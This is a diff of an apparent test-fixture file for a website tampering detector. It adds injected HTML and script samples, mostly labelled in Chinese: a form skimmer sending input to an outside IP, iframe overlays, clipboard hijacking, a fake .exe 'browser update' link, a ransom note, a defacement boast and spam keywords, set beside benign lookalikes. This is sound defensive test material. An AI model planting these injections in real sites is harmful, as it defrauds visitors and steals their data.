@@ -77,6 +77,35 @@ TOLD_AT_FIRST = {
         "<textarea name=content></textarea></form>"
     ),
     "copied forms": script("$('#f').submit(function(){new Image().src='http://203.0.113.3/c?'+$(this).serialize()})"),
+    "another tongue": PAGE.replace(
+        "</head>", '<meta name="description" content="ルイヴィトン 財布 新作 送料無料"></head>'
+    ),
+    "page in another tongue": PAGE.replace(
+        "</head>", '<link rel="alternate" hreflang="ja" href="https://a.bad.example/"></head>'
+    ),
+    "words looked for": put("<p><a href='/s?q=1'>世界杯在哪买球</a> <a href='/s?q=2'>约炮软件</a></p>"),
+    "file of a feigned host": put("<script src='http://www.yunshan-gov.example/jquery.js'></script>"),
+    "press anywhere": PAGE.replace("<body>", "<body onclick=\"window.open('http://a.bad.example/')\">"),
+    "clipboard": script(
+        "document.addEventListener('click',function(){t.value='打开支付宝搜索“559210388”领红包';document.execCommand('copy')})"
+    ),
+    "frame that fills a layer": put(
+        '<div style="position:fixed;top:0;left:0;right:0;bottom:0"><iframe src="http://a.bad.example/" '
+        'style="width:100%;height:100%"></iframe></div>'
+    ),
+    "ransom": put("<p>服务器数据已被加密，72小时内支付 0.8 BTC 至 bc1qabcdefgh2345，否则公开</p>"),
+    "boast of a style sheet": PAGE.replace(
+        "</head>", "<style>h1:after{content:'官网已被黑 hacked by 404'}</style></head>"
+    ),
+    "broken up": put("<p>威\u200b尼\u200b斯\u200b人\u200b城</p>"),
+    "code to scan": put(
+        "<div><p>劳动补贴申领，请扫码登记</p><img src='https://a.bad.example/q.png' alt='扫码认证'></div>"
+    ),
+    "program that is needed": put(
+        "<div><p>浏览器版本过低，请立即更新</p><a href='http://dl.bad.example/flash.exe'>更新</a></div>"
+    ),
+    "two offers": put("<p>代开各类发票 税点低</p><p>黑户贷款 当天放款</p>"),
+    "list in a script": script("var L=[{url:'https://a.bad.example/',title:'县政府召开第68次常务会议'}]"),
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
@@ -85,6 +114,7 @@ TOLD_AGAINST_THE_BASELINE = {
     "another town": PAGE.replace("0795-6126655", "0592-6126655"),
     "private mail": PAGE.replace("bgs@yunshan.gov.cn", "ysbgs@mail.example"),
     "account to pay into": put("<p>缴费账号：6222020200112233445</p>"),
+    "account after account": put("<p>账　号：8201 2600 0087 6543 210</p>"),
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
@@ -110,6 +140,14 @@ HONEST = {
     "letters to the office": put(
         "<form action=/mail method=post><input name=mobile><textarea name=c></textarea></form>"
     ),
+    "list in a script": script("var L=[{url:'https://www.news.example/',title:'省报：我县做好油茶文章'}]"),
+    "advice on browsers": put(
+        "<div><p>浏览器版本过低，请升级</p><a href='https://browser.360.cn/se/'>升级浏览器</a></div>"
+    ),
+    "source when copied": script(
+        "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','——转载请注明来源')})"
+    ),
+    "word with a break": put("<p>县人民\u200b医院</p>"),
     "statistics behind the end": PAGE + "<script src=https://hm.baidu.com/hm.js?1></script>",
 }
 
